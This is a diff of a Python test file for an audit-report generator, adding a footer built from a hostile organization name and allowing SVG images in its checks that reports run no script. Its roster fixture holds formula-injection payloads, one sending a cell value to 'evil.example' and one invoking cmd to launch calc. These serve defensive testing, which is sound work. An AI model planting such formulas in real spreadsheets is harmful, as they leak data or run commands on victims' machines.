@@ -17,6 +17,8 @@ from auditbook import catalog, cells, layout, locker
 from auditbook.demo.environment import DEMO_PARAMS, DEMO_PERIOD
 from markup import CSP, FAIL_RGB, HOSTILE_ORGANIZATION, lay_out, margin_strings, parse
 
+FOOTER_LINE = " ".join(HOSTILE_ORGANIZATION[:200].split())  # params report.confidentiality, whitespace collapsed
+
 ROSTER_NAMES = {
     "P001": '=HYPERLINK("http://evil.example/?leak="&A1,"Alice")',
     "P002": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -47,7 +49,9 @@ def hostile_run(demo_env, tmp_path_factory):
 
     tmp = tmp_path_factory.mktemp("hostile")
     params = yaml.safe_load(DEMO_PARAMS.read_text())
+    params["report"]["logo"] = str(DEMO_PARAMS.parent / params["report"]["logo"])  # relative to the demo params
     params["organization"] = HOSTILE_ORGANIZATION
+    params["report"]["confidentiality"] = HOSTILE_ORGANIZATION[:200]  # every page footer (a CSS string)
     # Another organization: the demo company's snapshots are not its own, so the alarm history it reads weeks after
     # the quarter is empty; coverage is not this test's topic.
     params["coverage"]["accept"]["CC7.2-ALERT-INCIDENT"] = "alarm history not retained: accepted for this test"
@@ -115,10 +119,11 @@ def test_no_report_runs_script_and_each_shows_the_organization_as_text(hostile_r
         assert page.tags("script") == [] and "<script" not in text.lower(), path.name
         assert page.csp() == [CSP], path.name
         assert HOSTILE_ORGANIZATION in page.visible_text(), path.name
-        assert all(img["src"].startswith("data:image/png;base64,") and set(img) <= {"src", "alt", "class"}
+        assert all(img["src"].startswith(("data:image/png;base64,", "data:image/svg+xml;base64,"))
+                   and set(img) <= {"src", "alt", "class"}
                    for img in page.tags("img")), path.name
         footer = margin_strings(page)["bottom-left"]
-        assert footer == [f"{HOSTILE_ORGANIZATION} · run {root.name}"], path.name
+        assert footer == [f"{FOOTER_LINE} · {HOSTILE_ORGANIZATION} · run {root.name}"], path.name
         assert path.with_suffix(".pdf").read_bytes().startswith(b"%PDF"), path.name
     assert any(parse(p.read_text(encoding="utf-8")).tags("img") for p in html_files)  # the charts are there
 
@@ -128,7 +133,8 @@ def test_the_pdf_keeps_red_fail_badges_and_its_tables(hostile_run, report):
     laid = lay_out(hostile_run.run_dir / layout.report(report, "html"))
     fails = {rgb for text, rgb in laid.badges if text == "FAIL"}
     assert fails == {FAIL_RGB} and laid.tables_shown >= 1
-    assert all(m.get("@bottom-left") == f"{HOSTILE_ORGANIZATION} · run {hostile_run.run_dir.name}"
+    footer = "".join(f"{FOOTER_LINE} · {HOSTILE_ORGANIZATION} · run {hostile_run.run_dir.name}".split())
+    assert all("".join((m.get("@bottom-left") or "").split()) == footer  # a long footer wraps: spaces go
                for m in laid.margins)
 
 
